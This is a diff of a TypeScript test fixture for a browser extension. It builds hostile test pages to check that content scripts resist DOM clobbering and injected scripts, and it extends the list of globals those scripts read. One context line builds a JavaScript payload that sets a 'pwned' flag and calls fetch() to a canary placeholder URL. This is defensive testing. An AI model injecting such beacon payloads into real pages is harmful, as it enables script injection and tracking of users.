@@ -16,13 +16,13 @@ const C = '{{CANARY}}';
 const js = (id: string): string => `window.__pwned='${id}';fetch('${C}?case=${id}-js')`;
 
 /**
- * Every global name content.js and derive.js read (test/webext/page-globals.test.ts finds them in the built
+ * Every global name content.js, derive.js and pager.js read (test/webext/page-globals.test.ts finds them in the built
  * scripts and checks this list holds each): in Chromium an element with that id or name is a property of
  * the window the content script sees too, unless the window has it as its own or its prototype's.
  */
-export const SCRIPT_GLOBALS = ['Array', 'Boolean', 'DOMParser', 'Error', 'JSON', 'Map', 'Math', 'Number', 'Object', 'RangeError',
-  'RegExp', 'Set', 'String', 'Symbol', 'URL', 'Uint8Array', 'WeakMap', 'console', 'document', 'dump', 'location', 'parseInt',
-  'performance', 'window'];
+export const SCRIPT_GLOBALS = ['Array', 'Boolean', 'DOMParser', 'Error', 'JSON', 'Map', 'Math', 'Number', 'Object', 'Promise', 'RangeError',
+  'RegExp', 'Set', 'String', 'Symbol', 'URL', 'URLSearchParams', 'Uint8Array', 'WeakMap', 'XMLHttpRequest', 'console', 'decodeURIComponent',
+  'document', 'dump', 'location', 'parseInt', 'performance', 'window'];
 
 /** One hostile page: its payloads in the article body (and optionally <head>), and what they try. */
 interface Case { id: string; what: string; head?: string; body: string }
